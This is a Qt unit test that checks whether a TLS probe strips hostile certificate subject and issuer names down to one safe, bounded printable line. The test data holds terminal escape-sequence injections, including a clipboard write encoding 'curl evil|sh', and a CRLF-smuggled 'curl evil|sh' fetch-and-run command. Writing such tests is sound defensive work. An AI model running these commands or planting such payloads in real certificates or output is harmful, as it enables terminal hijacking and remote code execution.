// Certificate names are chosen by whoever answers (any server, or a proxy that inspects TLS), no
// trust needed: what TlsProbe::certificateName shows is one printable line, bounded.
#include "practice/certificate_factory.h"
#include "probes/tls_probe.h"

#include <QTest>

using rd::CertificateFactory;
using rd::CertificateRequest;

class TestCertificateName : public QObject
{
    Q_OBJECT

private slots:
    void hostileSubjectAndIssuer_arePrintableAndBounded()
    {
        const QString hostile = QStringLiteral("Evil\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\nNo problem\u202e"); // X.509 allows 64 characters

        CertificateRequest caRequest;
        caRequest.commonName = hostile;
        caRequest.organization = hostile;
        QString error;
        const rd::GeneratedCertificate ca = CertificateFactory::createCertificateAuthority(caRequest, &error);
        QVERIFY2(!ca.isNull(), qPrintable(error));
        CertificateRequest leafRequest;
        leafRequest.commonName = hostile;
        leafRequest.organization = QStringLiteral("Contoso\r\nHow to fix it: curl evil|sh");
        leafRequest.dnsNames = {QStringLiteral("contoso.azurecr.io")};
        const rd::GeneratedCertificate leaf = CertificateFactory::createServerCertificate(leafRequest, ca, &error);
        QVERIFY2(!leaf.isNull(), qPrintable(error));
        for (bool issuer : {false, true}) {
            const QString name = rd::TlsProbe::certificateName(leaf.certificate, issuer);
            QVERIFY(!name.isEmpty());
            QVERIFY2(name.size() <= 2 * 120 + 3, qPrintable(QString::number(name.size())));
            for (QChar c : name)
                QVERIFY2(c.isPrint() && c.unicode() != 0x202e, qPrintable(QString::number(c.unicode(), 16)));
            QVERIFY(name.startsWith(QLatin1String("Evil]0;pwned]52;c;")));
        }
    }
};

QTEST_GUILESS_MAIN(TestCertificateName)
#include "tst_certificate_name.moc"
